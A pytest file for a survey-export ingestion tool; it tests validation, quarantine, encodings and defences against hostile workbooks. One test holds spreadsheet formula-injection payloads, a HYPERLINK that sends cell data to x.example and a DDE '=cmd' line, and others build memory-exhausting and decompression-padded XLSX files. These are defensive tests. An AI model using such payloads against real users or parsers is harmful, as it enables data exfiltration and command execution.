    dataset = ds.dataset(processed / "responses", format="parquet", partitioning="hive")
    expr = store._month_filter("responses", ["2026-03"])
    groups = [rg for frag in dataset.get_fragments() for rg in frag.split_by_row_group(expr)]
    assert [g.path.split("/")[-2] for g in groups] == ["month=2026-03"]  # statistics prune
    inv_set = ds.dataset(processed / "invitations", format="parquet", partitioning="hive")
    frags = list(inv_set.get_fragments(filter=store._month_filter("invitations", ["2026-03"])))
    assert [f.path.split("/")[-2] for f in frags] == ["month=2026-03"]  # directories prune
    assert store.load("invitations", months=["2026-03"], data_dir=processed)[
        "invited"].tolist() == [10]


def test_ingest_needs_the_dealers_first_and_append_refuses_a_demo_directory(tmp_path,
                                                                            small_net):
    path = write_csv(tmp_path / "oct.csv", RU, [row("R1")])
    # (a responses export brings its own dealers: tests/test_ingest_vendor.py)
    with pytest.raises(IngestError, match="has no dealers yet.*--table dealers"):
        ingest.ingest_file(path, table="invitations", data_root=tmp_path / "empty", now=NOW)
    small_net.write(tmp_path / "demo")
    with pytest.raises(store.StoreError, match="single-file table"):
        store.append("dealers", small_net.dealers, data_dir=tmp_path / "demo")


# --- the command line ---------------------------------------------------------------------------
def test_cli_ingest_prints_a_summary_and_exits_zero(tmp_path, root, capsys):
    path = write_csv(tmp_path / "oct.csv", RU, [row("R1"), row("R2", nps="11")])
    assert main(["ingest", str(path), "--table", "responses", "--data", str(root),
                 "--now", "2026-11-15 12:00"]) == 0
    out = capsys.readouterr().out
    assert "oct.csv (responses, utf-8, ';'): read 2, accepted 1, quarantined 1" in out
    assert "stored: 1 new, 0 updated, 0 unchanged" in out
    assert "1  nps: out of range 0-10" in out
    assert "1 file(s) ingested" in out and "1 accepted, 1 quarantined" in out


def test_cli_errors_are_messages_not_tracebacks(tmp_path, root, capsys):
    bad = write_csv(tmp_path / "bad.csv", ["x", "y"], [["1", "2"]])
    good = write_csv(tmp_path / "good.csv", RU, [row("R1")])
    code = main(["ingest", str(bad), str(good), "--table", "responses", "--data", str(root),
                 "--now", "2026-11-15 12:00"])
    captured = capsys.readouterr()
    assert code == 1 and "Traceback" not in captured.err
    assert captured.err.startswith(f"error: {bad}: no header row found")
    assert "good.csv (responses" in captured.out and "1 file(s) could not be read" in captured.out
    # without --table, an export is a survey export (what a team sends first)
    assert main(["ingest", str(good), "--data", str(root), "--now", "2026-11-15 12:00"]) == 0
    assert "--table responses assumed" in capsys.readouterr().out
    assert main(["ingest", "--demo", str(tmp_path / "nowhere"), "--data", str(root)]) == 1
    assert "not a demo network directory" in capsys.readouterr().err


# --- the demo round trip ------------------------------------------------------------------------
def _same_units(frame):  # Delta Lake keeps microseconds
    return frame.apply(lambda s: s.astype("datetime64[us]") if s.dtype.kind == "M" else s)


def test_demo_exports_are_the_same_files_for_a_seed(tmp_path):
    from analysis.demo_exports import write_demo_exports
    from analysis.synthetic import make_network

    def written(seed, out):
        net = make_network(n_dealers=4, n_regions=2, months=2, responses_per_month=80, seed=seed)
        files = write_demo_exports(net, out)
        # .xlsx files carry openpyxl's time stamp; their cells are compared by the round trip
        return {p.name: p.read_bytes() for paths in files.values() for p in paths
                if p.suffix != ".xlsx"}

    first = written(3, tmp_path / "a")
    assert len(first) == 5 and first == written(3, tmp_path / "b")
    assert first != written(4, tmp_path / "c")


def test_demo_to_messy_exports_to_store_equals_the_demo(tmp_path, capsys):
    from analysis.synthetic import make_network

    net = make_network(n_dealers=5, n_regions=2, months=3, responses_per_month=150, seed=4)
    net.write(tmp_path / "demo")
    assert main(["ingest", "--demo", str(tmp_path / "demo"), "--via-exports",
                 "--data", str(tmp_path / "data")]) == 0
    exports = sorted(p.name for p in (tmp_path / "data" / "raw" / "demo-exports").iterdir())
    assert exports == ["actions.xlsx", "cases.xlsx", "contacts.xlsx", "dealers.xlsx",
                       "incidents.csv", "invitations.csv", "repair_orders.tsv",
                       "responses_2026-08.csv", "responses_2026-09.csv",
                       "responses_2026-10.csv"]
    raw = (tmp_path / "data" / "raw" / "demo-exports" / "responses_2026-08.csv").read_bytes()
    assert raw.decode("cp1251").startswith("Id ответа;Код дилера;")
    invitations = tmp_path / "data" / "raw" / "demo-exports" / "invitations.csv"
    assert invitations.read_bytes()[:3] == codecs.BOM_UTF8
    processed = tmp_path / "data" / "processed"
    for table in schemas.TABLES:
        demo = getattr(net, table)
        back = store.load(table, data_dir=processed)
        assert set(back.columns) - set(demo.columns) <= {"month"}, table
        key = list(schemas.KEYS[table])
        back = back[demo.columns].sort_values(key).reset_index(drop=True)
        demo = demo.sort_values(key).reset_index(drop=True)
        pd.testing.assert_frame_equal(_same_units(back), _same_units(demo), check_dtype=True)
    summary = ingest.quarantine_summary(processed)
    planted = summary.loc[summary["table"] == "responses"]
    assert planted["quarantined"].tolist() == [1, 1, 1]  # each file repeats its first row
    assert set(planted["top_reasons"]) == {"response_id: duplicate row (1)"}
    assert summary["read"].sum() - summary["quarantined"].sum() == sum(
        len(getattr(net, t)) for t in schemas.TABLES)
    capsys.readouterr()
    assert main(["ingest", "--demo", str(tmp_path / "demo"), "--data",
                 str(tmp_path / "data")]) == 0  # the Parquet tables: all already stored
    out = capsys.readouterr().out
    assert out.count(" 0 new, 0 updated") == 8


def test_quarantine_summary_without_any_ingest_is_empty(tmp_path):
    summary = ingest.quarantine_summary(tmp_path)
    assert summary.empty and list(summary.columns) == list(ingest.QUARANTINE_COLUMNS)
    assert ingest.quarantine_reasons(tmp_path).empty


# --- properties ----------------------------------------------------------------------------------
GOOD = {"nps": ["0", "6", "9", "10", "9,0", "девять", " 7 "],
        "date": ["31.10.2026", "2026-10-31T14:05:00", "01.11.2026 09:30"],
        "dealer": ["D001", "D002", " D003"], "open": ["да", "no", "1"], "rating": ["1", "10", ""]}
BAD = {"nps": ["11", "-1", "9,5", "abc", ""], "date": ["31.13.2026", "2027-05-01", ""],
       "dealer": ["D999", ""], "open": ["maybe"], "rating": ["11", "7,5"]}


@st.composite
def mixtures(draw):
    rows = []
    for _ in range(draw(st.integers(0, 12))):
        cells = {}
        for field in GOOD:
            good = draw(st.booleans()) or draw(st.booleans())  # three in four good
            cells[field] = draw(st.sampled_from(GOOD[field] if good else BAD[field]))
            cells[field + "_ok"] = good
        cells["id"] = draw(st.sampled_from(["R1", "R2", "R3", "R4", "R5", "R6"]))
        cells["blank_after"] = draw(st.booleans())
        rows.append(cells)
    dialect = draw(st.sampled_from([("utf-8-sig", ";"), ("cp1251", ";"), ("utf-8", ","),
                                    ("utf-16", "\t")]))
    return rows, dialect


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                 HealthCheck.function_scoped_fixture])
@given(mixtures())
def test_every_row_is_accepted_or_quarantined_and_accepted_rows_are_valid(tmp_path, mix):
    rows, (encoding, sep) = mix
    data = [[r["id"], r["dealer"], "service", r["date"], r["nps"], r["rating"], "9", "9", "9",
             "9", r["open"], ""] for r in rows]
    blanks = {i for i, r in enumerate(rows, start=1) if r["blank_after"]}
    path = write_csv(tmp_path / "mix.csv", RU, data, sep=sep, encoding=encoding,
                     blank_after=blanks)
    result = read(path)
    assert result.n_read == len(rows)
    assert len(result.accepted) + len(result.quarantined) == result.n_read
    schemas.validate("responses", result.accepted, dealers=DEALERS, now=NOW)
    seen, expected = set(), []
    for r in rows:  # the oracle: a valid row whose id no earlier row had
        if all(r[f + "_ok"] for f in GOOD) and r["id"] not in seen:
            expected.append(r["id"])
        seen.add(r["id"])
    assert ids(result) == expected
    lines = result.quarantined["source_line"].tolist()
    assert lines == sorted(lines) and len(set(lines)) == len(lines)


@given(st.integers(0, 10), st.sampled_from(["{n}", "{n},0", "{n}.0", " {n} ", "word"]))
def test_any_way_of_writing_a_score_reads_as_that_score(n, style):
    words = {v: k for k, v in ingest.load_params("columns")["number_words"].items()}
    text = words[n] if style == "word" else style.format(n=n)
    values, errors = ingest._parse_number(pd.Series([text], dtype="object"),
                                          {k: v for v, k in words.items()})
    assert values.tolist() == [float(n)] and errors.isna().all()


# --- closing the loop: the dealers' action-plan sheets and the call centre's funnel -------------
ACTIONS_RU = ["Номер мероприятия", "Код дилера", "Цель", "Описание мероприятия", "Ответственный",
              "Дата начала", "Срок", "Дата выполнения", "Статус"]


def test_malformed_action_sheets_are_quarantined_with_reasons(tmp_path):
    good = ["M-1", "D001", "Качество ремонта", "Контроль качества перед выдачей", "Петров А.А.",
            "01.06.2026", "15.07.2026", "10.07.2026", "Выполнено"]
    rows = [["План мероприятий по улучшению, ДЦ Тула"], [], ACTIONS_RU, good,
            ["M-2", "D002", "Персонал", "Тренинг", "Иванова О.", "01.06.2026", "01.12.2026",
             "", "В работе"],                                       # due later than now: fine
            ["M-3", "D001", "Цены", "Скидки", "", "01.06.2026", "01.07.2026", "", "открыто"],
            ["M-4", "D001", "booking", "Онлайн-запись", "", "01.06.2026", "01.07.2026",
             "15.05.2026", "Выполнено"],                            # closed before it opened
            ["M-5", "D003", "staff", "Стандарт общения", "", "01.06.2026", "01.07.2026", "",
             "Выполнено"],                                          # done, but when?
            ["M-6", "D001", "staff", "Звонок при готовности", "", "01.06.2026", "01.05.2026",
             "", "отложено"],                                       # due before open; status?
            ["M-7", "D009", "staff", "Обучение", "", "01.06.2026", "01.07.2026", "", "открыто"],
            ["M-1", "D001", "staff", "Другое", "", "01.06.2026", "01.07.2026", "", "открыто"]]
    r = read(write_xlsx(tmp_path / "plan.xlsx", rows, sheet="План"), table="actions")
    check_invariant(r)
    assert ids(r, "action_id") == ["M-1", "M-2"]
    assert r.accepted["target"].tolist() == ["repair_quality", "staff"]
    assert r.accepted["status"].tolist() == ["done", "open"]
    assert r.accepted["owner"].tolist() == ["Петров А.А.", "Иванова О."]
    got = dict(zip(r.quarantined["source_line"], r.quarantined["problem"]))
    assert set(got) == {6, 7, 8, 9, 10, 11}  # Excel rows, under a title row and a blank one
    assert got[6].startswith("target: not one of product_quality, repair_quality, booking")
    assert got[6].endswith("('Цены')")
    assert got[7] == "closed_at: closed_at before opened_at ('15.05.2026')"
    assert got[8] == "closed_at: done without closed_at"
    assert got[9] == ("due_at: due_at before opened_at ('01.05.2026'); "
                      "status: not one of open, done, cancelled ('отложено')")
    assert got[10] == "dealer_id: unknown dealer (not in the dealers table) ('D009')"
    assert got[11] == "action_id: duplicate id M-1: first seen at line 4"
    assert dict(zip(r.quarantined["source_line"], r.quarantined["bad_columns"]))[9] == (
        "due_at; status")


def test_funnel_report_rows_that_do_not_add_up_are_quarantined(tmp_path):
    header = ["Dealer code", "Channel", "Month", "Attempts", "Reached", "Answered"]
    rows = [["D001", "Звонок", "10.2026", "120", "60", "25"],
            ["D001", "SMS", "10.2026", "100", "90", "12"],
            ["D002", "e-mail", "10.2026", "80", "85", "5"],      # reached more than attempted
            ["D002", "messenger", "10.2026", "50", "40", "41"],  # answered more than reached
            ["D003", "Web form", "10.2026", "50", "40", "4"]]    # not a survey channel
    r = read(write_csv(tmp_path / "funnel.csv", header, rows, sep=","), table="contacts")
    check_invariant(r)
    assert r.accepted["channel"].tolist() == ["phone", "sms"]
    got = dict(zip(r.quarantined["source_line"], r.quarantined["problem"]))
    assert got[4] == "reached: reached more than attempted ('85')"
    assert got[5] == "answered: answered more than reached ('41')"
    assert got[6] == "channel: not one of phone, sms, email, messenger ('Web form')"


# --- exports read whole (issue 19) --------------------------------------------------------------
def _set_dimension(path, ref):
    """Rewrite the sheet's <dimension> tag, as exporters that never update it leave it."""
    import re
    import zipfile

    tampered = path.with_name(f"stale-{ref.replace(':', '')}-{path.name}")
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(tampered, "w",
                                                       zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                data, n = re.subn(rb'<dimension ref="[^"]*"\s*/>',
                                  f'<dimension ref="{ref}"/>'.encode(), data)
                assert n == 1
            zout.writestr(item, data)
    return tampered


@pytest.mark.parametrize("ref", ["A1:O4", "A1"])
def test_an_xlsx_with_a_stale_size_tag_is_read_whole(tmp_path, ref):
    rows = [RU] + [row(f"R{i}", nps=str(i % 11)) for i in range(10)]
    path = _set_dimension(write_xlsx(tmp_path / "ten.xlsx", rows), ref)
    assert len(list(openpyxl.load_workbook(path, read_only=True).active.iter_rows())) < 5
    r = read(path)
    assert r.n_read == 10 and ids(r) == [f"R{i}" for i in range(10)]
    assert r.accepted["nps"].tolist() == [i % 11 for i in range(10)]
    check_invariant(r)


def test_xlsx_formulas_without_a_saved_value_are_quarantined_with_that_reason(tmp_path):
    rows = [RU, row("R1", comment="=1+1"), row("R2", nps="=4+5"), row("R3")]
    r = read(write_xlsx(tmp_path / "formulas.xlsx", rows))  # openpyxl saves no values
    assert ids(r) == ["R3"] and r.n_read == 3
    assert problems(r) == [
        (2, f"comment: {ingest.FORMULA_RULE} ('=1+1')"),
        (3, f"nps: {ingest.FORMULA_RULE} ('=4+5')"),
    ]
    assert r.quarantined["Оценка"].tolist() == ["9", "=4+5"]
    assert r.reasons.set_index("column")["reason"].to_dict() == {
        "comment": ingest.FORMULA_RULE, "nps": ingest.FORMULA_RULE}
    check_invariant(r)


def test_xlsx_formulas_with_a_saved_value_keep_it(tmp_path):
    import re
    import zipfile

    path = write_xlsx(tmp_path / "cached.xlsx", [RU, row("R1", nps="=4+5")])
    cached = tmp_path / "cached-values.xlsx"
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(cached, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):  # as Excel saves it
                data = re.sub(rb"<f>4\+5</f><v\s*/>", b"<f>4+5</f><v>9</v>", data)
            if item.filename == "xl/workbook.xml":  # computed: no recalculation asked for
                data = re.sub(rb'\s*fullCalcOnLoad="1"', b"", data)
            zout.writestr(item, data)
    r = read(cached)
    assert ids(r) == ["R1"] and r.accepted["nps"].tolist() == [9]


def test_a_csv_mixing_utf8_and_cp1251_lines_is_read_line_by_line(tmp_path):
    comments = ["Всё отлично", "Долго ждал", "Спасибо", "Грязно в салоне", "Вежливый мастер"]
    buf = io.BytesIO()
    buf.write((";".join(RU) + "\r\n").encode("utf-8"))
    for i, text in enumerate(comments):
        line = ";".join(row(f"R{i}", comment=text)) + "\r\n"
        buf.write(line.encode("utf-8" if i < 3 else "cp1251"))  # two exports pasted together
    path = tmp_path / "mixed.csv"
    path.write_bytes(buf.getvalue())
    r = read(path)
    assert r.accepted["comment"].tolist() == comments  # never mojibake
    assert r.encoding == "utf-8+cp1251"
    assert r.notes == ("mixed encodings: lines 5-6 read as Windows-1251, lines 1-4 as UTF-8 "
                       "(each line in its own; check them)",)
    assert "note: mixed encodings" in r.summary()


def test_a_line_neither_utf8_nor_cp1251_is_named(tmp_path):
    path = tmp_path / "bad.csv"
    path.write_bytes((";".join(RU) + "\r\n").encode("utf-8")
                     + ";".join(row("R1", comment="Всё")).encode("utf-8") + b"\r\nR2;\x98\r\n")
    with pytest.raises(IngestError, match=r"bad\.csv: byte \d+ is neither UTF-8 nor "
                                          r"Windows-1251 text \(line 3\)"):
        read(path)


def test_quarantine_files_are_one_per_source_path_and_defused(tmp_path, root):
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    evil = '=HYPERLINK("http://x.example/?"&A1;"click")'
    bad_a = write_csv(a / "export.csv", RU, [row("R1", nps="11", comment=evil)])
    bad_b = write_csv(b / "export.csv", RU, [row("R2", nps="12", comment="=cmd|'/c calc'!A1")])
    qa = ingest.ingest_file(bad_a, table="responses", data_root=root, now=NOW).quarantine_file
    qb = ingest.ingest_file(bad_b, table="responses", data_root=root, now=NOW).quarantine_file
    assert qa == root / "quarantine" / "export.csv.csv" and qb != qa and qb.exists()
    # b's export fixed: only b's quarantine goes; a's stays, as the summary says
    write_csv(bad_b, RU, [row("R2", nps="10")])
    assert ingest.ingest_file(bad_b, table="responses", data_root=root,
                              now=NOW).quarantine_file is None
    assert qa.exists() and not qb.exists()
    summary = ingest.quarantine_summary(root / "processed").set_index("quarantine_file")
    assert summary.loc["quarantine/export.csv.csv", "quarantined"] == 1
    text = qa.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ";=" not in text  # Excel shows it, does not run it
    # sent back corrected, the quarantine file reads as the export did
    (tmp_path / "fixed.csv").write_text(text.replace(";11;", ";10;"), encoding="utf-8-sig")
    back = ingest.ingest_file(tmp_path / "fixed.csv", table="responses", data_root=root,
                              now=NOW)
    assert back.result.accepted["comment"].tolist() == [evil]


def test_an_ingest_is_one_commit_recorded_in_the_history(tmp_path, root):
    path = write_csv(tmp_path / "oct.csv", RU, [row("R1"), row("R2", nps="11")])
    rec = ingest.ingest_file(path, table="responses", data_root=root, now=NOW)
    assert rec.appended.version == 0
    again = ingest.ingest_file(path, table="responses", data_root=root, now=NOW)
    assert again.appended.version == 0  # nothing changed, nothing committed
    history = store.history("responses", data_dir=root / "processed")
    assert history[["version", "file", "read", "quarantined", "rows_added"]].values.tolist() == [
        [0, "oct.csv", 2, 1, 1]]
    log = ingest.ingest_log(root / "processed")
    assert log.loc[log["table"] == "responses", "version"].tolist() == [0, 0]


# --- hostile workbooks get an error, not an abort (issue 28, item 5) ----------------------------
def _rezip(path, out, edit):
    """A copy of the workbook with ``edit(name, data) -> data`` applied to every part."""
    import zipfile

    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            zout.writestr(item, edit(item.filename, zin.read(item.filename)))
    return out


def _with_cell(path, out, ref, value=b"<v>1</v>"):
    import re

    row = re.sub(r"\D", "", ref)

    def edit(name, data):
        if name.startswith("xl/worksheets/sheet1"):
            data = data.replace(b"</sheetData>",
                                f'<row r="{row}"><c r="{ref}">'.encode() + value
                                + b"</c></row></sheetData>")
        return data

    return _rezip(path, out, edit)


def _columns_params(**changes):
    return {**ingest.load_params("columns"), **changes}


def test_a_far_cell_is_refused_naming_it_and_the_next_file_is_ingested(tmp_path):
    """A 2 KB workbook with one value in XFD1048576 made calamine allocate 550 GB and abort
    the process (exit 134), and the command's next file was never ingested. Run as its own
    process: were the check gone, the abort would not take the test run with it."""
    import os
    import subprocess
    import sys
    from pathlib import Path

    far = _with_cell(write_xlsx(tmp_path / "base.xlsx", [RU, row("R1")]), tmp_path / "far.xlsx",
                     "XFD1048576")
    assert far.stat().st_size < 10_000
    good = write_csv(tmp_path / "good.csv", RU, [row("R2")])
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    done = subprocess.run([sys.executable, "-m", "analysis", "ingest", str(far), str(good),
                           "--data", str(tmp_path / "data"), "--now", str(NOW)],
                          capture_output=True, text=True, env=env, timeout=300)
    assert done.returncode == 1, done.stderr
    assert "cell XFD1048576 holds a value" in done.stderr
    assert "1,048,576 rows x 16,384 columns" in done.stderr
    assert "xlsx_memory_mb, params/columns.yaml" in done.stderr
    assert "Traceback" not in done.stderr and "panicked" not in done.stderr
    assert "good.csv (responses" in done.stdout       # the next file was ingested
    assert "1 file(s) could not be read" in done.stdout


def _with_unreferenced_cells(path, out, row, n):
    """``n`` cells without a reference in row ``row``: readers place them one after another."""
    def edit(name, data):
        if name.startswith("xl/worksheets/sheet1"):
            data = data.replace(b"</sheetData>", f'<row r="{row}">'.encode()
                                + b"<c><v>1</v></c>" * n + b"</row></sheetData>")
        return data

    return _rezip(path, out, edit)


@pytest.mark.parametrize("unreferenced", [False, True])
def test_a_sheet_beyond_the_memory_budget_is_refused_before_it_is_read(tmp_path, monkeypatch,
                                                                       unreferenced):
    import python_calamine

    base = write_xlsx(tmp_path / "base.xlsx", [RU, row("R1")])
    path = (_with_unreferenced_cells(base, tmp_path / "wide.xlsx", 50000, 26) if unreferenced
            else _with_cell(base, tmp_path / "wide.xlsx", "Z50000"))
    monkeypatch.setattr(python_calamine.CalamineWorkbook, "from_path",
                        lambda *a, **k: pytest.fail("calamine was asked to read it"))
    with pytest.raises(IngestError, match=r"wide\.xlsx \(sheet 'Sheet1'\): cell Z50000 holds a "
                                          r"value, so the sheet reads as 50,000 rows x 26 "
                                          r"columns \(1,300,000 cells, about 69 MB\), more than "
                                          r"the 1 MB"):
        read(path, params=_columns_params(xlsx_memory_mb=1))
    monkeypatch.undo()
    r = read(path)  # within the default budget the sheet is read
    assert ids(r) == ["R1"] and r.n_read == 2  # the far values are a row of their own


def test_a_part_that_unpacks_beyond_the_budget_is_refused(tmp_path):
    path = write_xlsx(tmp_path / "bomb.xlsx", [RU, row("R1")])
    padded = _rezip(path, tmp_path / "padded.xlsx", lambda name, data: data.replace(
        b"</worksheet>", b"<!--" + b" " * (3 * 2**20) + b"--></worksheet>")
        if name.startswith("xl/worksheets/sheet1") else data)
    with pytest.raises(IngestError, match=r"padded\.xlsx: its part xl/worksheets/sheet1\.xml "
                                          r"unpacks to 3 MB, more than the 1 MB"):
        read(padded, params=_columns_params(xlsx_memory_mb=1))
    assert ids(read(padded)) == ["R1"]


def test_a_huge_claimed_size_tag_is_noted_and_the_cells_are_read(tmp_path):
    path = _set_dimension(write_xlsx(tmp_path / "claims.xlsx", [RU, row("R1"), row("R2")]),
                          "A1:XFD1048576")
    r = read(path)
    assert ids(r) == ["R1", "R2"]
    assert "the sheet's size tag claims A1:XFD1048576, its cells reach L3: read by its cells" in (
        r.notes)


def _xlsxwriter_book(path, rows, *, formulas):
    """A workbook as xlsxwriter writes it: formula cells hold the placeholder 0 and the
    workbook asks to be recalculated on load (fullCalcOnLoad)."""
    import xlsxwriter

    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet("Sheet1")
    for r, cells in enumerate(rows):
        for c, value in enumerate(cells):
            if (r, c) in formulas:
                sheet.write_formula(r, c, formulas[(r, c)])
            else:
                sheet.write(r, c, value)
    book.close()
    return path


def test_formulas_of_a_workbook_never_computed_are_quarantined_not_stored_as_zero(tmp_path):
    nps = RU.index("Оценка")
    path = _xlsxwriter_book(tmp_path / "written.xlsx", [RU, row("R1"), row("R2")],
                            formulas={(1, nps): "=4+5"})
    import zipfile

    with zipfile.ZipFile(path) as z:
        assert b'fullCalcOnLoad="1"' in z.read("xl/workbook.xml")
        assert b"<f>4+5</f><v>0</v>" in z.read("xl/worksheets/sheet1.xml")
    r = read(path)
    assert ids(r) == ["R2"]
    assert problems(r) == [(2, f"nps: {ingest.UNCOMPUTED_RULE} ('=4+5')")]
    assert 0 not in r.accepted["nps"].tolist()
    check_invariant(r)


@pytest.mark.parametrize(("cached", "kept"), [(b"0", False), (b"", False), (b"9", True)])
def test_without_a_calculation_chain_a_zero_is_a_placeholder(tmp_path, cached, kept):
    """No fullCalcOnLoad and no calcChain.xml: a program that calculates did not save the
    file; a saved 0 (or nothing) is what writers that do not calculate put there."""
    import re

    path = write_xlsx(tmp_path / "f.xlsx", [RU, row("R1", nps="=4+5")])

    def edit(name, data):
        if name.startswith("xl/worksheets/sheet"):
            data = re.sub(rb"<f>4\+5</f><v\s*/>", b"<f>4+5</f><v>" + cached + b"</v>", data)
        if name == "xl/workbook.xml":
            data = re.sub(rb'\s*fullCalcOnLoad="1"', b"", data)
        return data

    r = read(_rezip(path, tmp_path / "cached.xlsx", edit))
    assert ids(r) == (["R1"] if kept else [])
    if not kept:
        assert problems(r) == [(2, f"nps: {ingest.UNCOMPUTED_RULE} ('=4+5')")]


def test_other_sheets_holding_rows_are_named(tmp_path):
    import openpyxl as xl

    book = xl.Workbook()
    first = book.active
    first.title = "Лист1"
    for r in [RU, row("R1")]:
        first.append(r)
    second = book.create_sheet("Лист2")
    for r in [RU, *(row(f"S{i}") for i in range(10))]:
        second.append(r)
    book.create_sheet("Пусто")
    book.save(tmp_path / "two.xlsx")
    r = read(tmp_path / "two.xlsx")
    assert ids(r) == ["R1"]
    assert ("sheet 2 'Лист2' with 11 rows not read (sheet 'Лист1' was): ingest it with "
            "--sheet 'Лист2'") in r.notes
    assert "note: sheet 2 'Лист2'" in r.summary()
    other = read(tmp_path / "two.xlsx", sheet="Лист2")
    assert other.n_read == 10
    assert any("sheet 1 'Лист1' with 2 rows not read" in n for n in other.notes)


def test_a_long_comment_quarantines_its_row_naming_the_line_and_the_limit(tmp_path):
    long = "очень плохо " * 17400  # 208,800 characters: csv refused the whole file
    path = write_csv(tmp_path / "long.csv", RU,
                     [row("R1"), row("R2", nps="3", comment=long), row("R3")])
    r = read(path)
    assert ids(r) == ["R1", "R3"] and r.n_read == 3
    [(line, problem)] = problems(r)
    assert line == 3 and problem.startswith(
        "comment: longer than 100,000 characters (max_cell_chars, params/columns.yaml) "
        "('очень плохо")
    assert problem.endswith("... 208,800 characters)") and len(problem) < 300
    assert ("line 3: 'Комментарий' holds 208,800 characters, more than max_cell_chars 100,000 "
            "(params/columns.yaml): its row is quarantined, the rest is read; raise the limit "
            "to accept it") in r.notes
    check_invariant(r)
    # the limit raised, the comment is accepted as written
    raised = read(path, params=_columns_params(max_cell_chars=300_000))
    assert ids(raised) == ["R1", "R2", "R3"]
    assert raised.accepted["comment"].iloc[1] == long


def test_a_quote_never_closed_is_still_named_as_one(tmp_path):
    path = tmp_path / "open.csv"
    path.write_text(";".join(RU) + "\n" + ";".join(row("R1", comment='"never closed')) + "\n"
                    + ";".join(row("R2")) + "\n", encoding="utf-8")
    with pytest.raises(IngestError, match=r"open\.csv, line 2: .*a quote that is opened and "
                                          r"never closed\?"):
        read(path)
